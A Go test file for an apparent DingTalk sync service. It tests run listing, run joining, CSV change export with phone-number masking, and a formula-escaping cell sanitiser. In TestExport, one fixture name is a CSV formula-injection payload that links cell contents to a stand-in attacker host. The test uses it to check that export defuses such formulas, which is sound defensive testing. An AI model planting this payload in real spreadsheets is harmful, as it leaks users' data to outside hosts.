package transport_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/thirdapp/thirdapp/dingtalk/dingtalktest"
	"github.com/thirdapp/thirdapp/transport"
)

func TestRunList(t *testing.T) {
	t.Parallel()
	p := newPlatform(t)
	dry := result[listedRun](t, p.do(t, request{
		method: http.MethodPost, path: "/sync/runs", user: owner, tenant: here, body: `{"provider":"dingtalk","dryRun":true}`,
	})).ID
	p.finished(t, dry)
	whole := p.startRun(t)
	p.finished(t, whole)
	list := func(query string) request { return request{path: "/sync/runs?" + query, user: viewer, tenant: here} }
	soon, long := time.Now().Add(time.Hour).UTC().Format(time.RFC3339), "2000-01-01T00:00:00Z"
	for query, want := range map[string]int{
		"": 2, "provider=dingtalk": 2, "direction=pull": 2, "state=planned": 1, "state=succeeded": 1, "state=queued": 0,
		"from=" + long: 2, "from=" + soon: 0, "to=" + soon: 2, "to=" + long: 0, "state=planned&from=" + long + "&to=" + soon: 1,
	} {
		got := result[struct{ Items []listedRun }](t, p.do(t, list(query))).Items
		if len(got) != want {
			t.Errorf("%s: %d runs, want %d", query, len(got), want)
		}
	}
	p.golden(t, []step{
		{"unknown_provider", list("provider=slack")},
		{"unknown_direction", list("direction=up")},
		{"unknown_state", list("state=lost")},
		{"malformed_time", list("from=yesterday")},
	})
}

func TestJoin(t *testing.T) {
	t.Parallel()
	p := newPlatform(t, asIdle)
	start := func(body string) answer {
		return p.do(t, request{method: http.MethodPost, path: "/sync/runs", user: owner, tenant: here, body: body})
	}
	first := p.startRun(t)
	a := start(`{"provider":"dingtalk","onActive":"join"}`)
	golden(t, "joined", a)
	if got := result[struct {
		ID     string
		Joined bool
	}](t, a); got.ID != first || !got.Joined {
		t.Errorf("got %+v, want run %s", got, first)
	}
	golden(t, "other_kind", start(`{"provider":"dingtalk","dryRun":true,"onActive":"join"}`))
	golden(t, "refused", start(`{"provider":"dingtalk","onActive":"refuse"}`))
	golden(t, "unknown", start(`{"provider":"dingtalk","onActive":"queue"}`))
}

func TestExport(t *testing.T) {
	t.Parallel()
	p := newPlatform(t)
	check(t, p.emulator.AddPerson("dingAAAA", dingtalktest.Person{
		UserID: "evil", Name: `=HYPERLINK("http://evil.example/"&A1)`, Mobile: "13912345678", Memberships: in(2),
		Email: "+1@example.com", Title: "line\nbreak, \"quoted\"",
	}))
	for i := range 450 { // more than a page
		check(t, p.emulator.AddPerson("dingAAAA", dingtalktest.Person{
			UserID: fmt.Sprintf("many-%d", i), Name: fmt.Sprintf("员工%d", i), Mobile: fmt.Sprintf("137%08d", i), Memberships: in(3),
		}))
	}
	run := p.startRun(t)
	p.finished(t, run)
	export := func(lang, query string) (answer, [][]string) {
		t.Helper()
		a := p.do(t, request{
			path: "/sync/runs/" + run + "/changes.csv?" + query, user: viewer, tenant: here,
			header: http.Header{"Accept-Language": {lang}},
		})
		if got := a.header.Get("Content-Type"); a.status != http.StatusOK || got != "text/csv; charset=utf-8" {
			t.Fatalf("HTTP %d %s: %s", a.status, got, a.body)
		}
		text, marked := strings.CutPrefix(a.body, "\ufeff")
		if !marked {
			t.Error("the file does not begin with a byte order mark")
		}
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return a, rows
	}
	a, rows := export("zh", "")
	if want := `attachment; filename="sync-` + run + `.csv"`; a.header.Get("Content-Disposition") != want {
		t.Errorf("Content-Disposition %q, want %q", a.header.Get("Content-Disposition"), want)
	}
	if len(rows) < 452 || rows[0][1] != "对象" {
		t.Fatalf("%d rows beginning with %q", len(rows), rows[0])
	}
	for _, row := range rows {
		if strings.Contains(row[7], "13912345678") || row[3] == "evil" && !strings.Contains(row[7], "139****5678") {
			t.Errorf("mobile number is not masked: %q", row[7])
		}
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") {
				t.Errorf("cell %q is a formula", cell)
			}
		}
	}
	if _, english := export("en", "entity=department&kind=create"); english[0][1] != "Entity" || english[1][1] != "department" {
		t.Errorf("English rows %q", english[:2])
	}
	p.golden(t, []step{
		{"unknown_run", request{path: "/sync/runs/nobody/changes.csv", user: viewer, tenant: here}},
		{"unknown_kind", request{path: "/sync/runs/" + run + "/changes.csv?kind=vanish", user: viewer, tenant: here}},
	})
}

func TestPlainCell(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		"": "", "张三": "张三", "a=b": "a=b", "1-2": "1-2", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x",
		"\t=1": "'\t=1", "\r=1": "'\r=1", " =1": "' =1", "＝1": "'＝1", "\u3000=1": "'\u3000=1", "'=1": "'=1",
	} {
		if got := transport.PlainCell(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

func FuzzPlainCell(f *testing.F) {
	for _, s := range []string{"", "=1", " +1", "张三"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := transport.PlainCell(s)
		if got != s && got != "'"+s {
			t.Errorf("%q becomes %q", s, got)
		}
		if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
			t.Errorf("%q becomes %q, which is a formula", s, got)
		}
	})
}

// TestRunNamesMissingPermissions has an app without a permission: the run says
// which, by the name in DingTalk's console.
func TestRunNamesMissingPermissions(t *testing.T) {
	t.Parallel()
	p := newPlatform(t)
	p.emulator.Fail(dingtalktest.Fault{
		Path: "/topapi/v2/user/list", Kind: dingtalktest.Refuse, Code: "60011", Text: "没有调用该接口的权限", Wrapped: true,
	})
	run := p.startRun(t)
	p.finished(t, run)
	get := request{path: "/sync/runs/" + run, user: viewer, tenant: here}
	golden(t, "get", p.do(t, get))
	get.header = http.Header{"Accept-Language": {"en"}}
	golden(t, "get_english", p.do(t, get))
}
